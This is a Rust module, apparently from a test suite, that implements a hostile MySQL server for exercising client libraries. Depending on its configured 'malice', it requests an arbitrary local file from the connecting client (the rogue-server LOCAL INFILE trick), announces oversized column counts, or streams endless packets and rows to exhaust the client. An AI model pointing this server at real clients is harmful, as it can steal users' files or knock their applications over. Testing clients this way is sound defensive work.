use std::io;

use tokio_rustls::TlsAcceptor;

use super::{Client, Malice};

/// Of the capabilities: protocol 4.1, files of the client's, transactions, the way of logging in that the greeting names, results
/// whose columns have no end of their own.
const CAPABILITIES: u32 = 0x0200 | 0x0080 | 0x2000 | 0x8000 | 0x0008_0000 | 0x0100_0000;
const SSL: u32 = 0x0800;

const OK: [u8; 7] = [0, 0, 0, 2, 0, 0, 0];

const QUERY: u8 = 3;
const PREPARE: u8 = 0x16;
const EXECUTE: u8 = 0x17;

/// A column of texts that is called `c`.
const COLUMN: [u8; 21] = *b"\x03def\0\0\0\x01c\0\x0c\x2d\0\xff\0\0\0\xfd\0\0\0";

pub(super) async fn serve(client: &mut Client, tls: Option<TlsAcceptor>) -> io::Result<()> {
    let capabilities = CAPABILITIES | if tls.is_some() { SSL } else { 0 };
    let [low, high] = [capabilities & 0xffff, capabilities >> 16].map(u32::to_le_bytes);
    let mut greeting = b"\x0a8.0.99-rogue\0\x01\0\0\0saltsalt\0".to_vec();
    greeting.extend([low[0], low[1], 45, 2, 0, high[0], high[1], 21]);
    greeting.extend([0; 10]);
    greeting.extend(b"saltsaltsalt\0mysql_native_password\0");
    say(client, 0, &greeting).await?;
    let (mut number, _) = hear(client).await?;
    if let Some(tls) = tls {
        client.encrypt(&tls).await?;
        (number, _) = hear(client).await?;
    }
    say(client, number + 1, &OK).await?;
    loop {
        let (_, question) = hear(client).await?;
        if let Malice::Rows(columns) = client.malice {
            match question.first() {
                // Statement 1, which has no parameters; its columns are told when it runs.
                Some(&PREPARE) => say(client, 1, &[0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]).await?,
                Some(&EXECUTE) => return rows_without_end(client, columns).await,
                _ => say(client, 1, &OK).await?,
            }
            continue;
        }
        let is_query = question.first() == Some(&QUERY) && question[1..].starts_with(b"SELECT");
        if !is_query {
            say(client, 1, &OK).await?;
            continue;
        }
        match client.malice {
            Malice::Announcing(columns) => {
                return say(client, 1, &[&[0xfe][..], &columns.to_le_bytes()].concat()).await;
            }
            Malice::AskingForFile(file) => return say(client, 1, &[b"\xfb", file.as_bytes()].concat()).await,
            Malice::Endless => {
                say(client, 1, &[1]).await?;
                say(client, 2, &COLUMN).await?;
                return row_without_end(client).await;
            }
            _ => return Ok(()),
        }
    }
}

/// Packets that are as long as one can be, each the rest of the one before.
async fn row_without_end(client: &mut Client) -> io::Result<()> {
    let part = vec![b'x'; 0xffff];
    for number in (3..=u8::MAX).cycle() {
        client.say(&[0xff, 0xff, 0xff, number]).await?;
        let mut left = 0x00ff_ffff;
        while left > 0 {
            let part = &part[..part.len().min(left)];
            client.say(part).await?;
            left -= part.len();
        }
    }
    Ok(())
}

/// Rows of the binary protocol that are NULL all over.
async fn rows_without_end(client: &mut Client, columns: u16) -> io::Result<()> {
    let [low, high] = columns.to_le_bytes();
    say(client, 1, &[0xfc, low, high]).await?;
    for _ in 0..columns {
        say(client, 2, &COLUMN).await?;
    }
    let row = [&[0][..], &vec![0xff; (usize::from(columns) + 9) / 8]].concat();
    let length = u32::try_from(row.len()).map_err(io::Error::other)?.to_le_bytes();
    let many = [&length[..3], &[3], &row].concat().repeat(64);
    loop {
        client.say(&many).await?;
    }
}

async fn say(client: &mut Client, number: u8, payload: &[u8]) -> io::Result<()> {
    let length = u32::try_from(payload.len()).map_err(io::Error::other)?.to_le_bytes();
    client.say(&[&length[..3], &[number], payload].concat()).await
}

async fn hear(client: &mut Client) -> io::Result<(u8, Vec<u8>)> {
    let header = client.hear(4).await?;
    let length = u32::from_le_bytes([header[0], header[1], header[2], 0]);
    Ok((header[3], client.hear(usize::try_from(length).map_err(io::Error::other)?).await?))
}
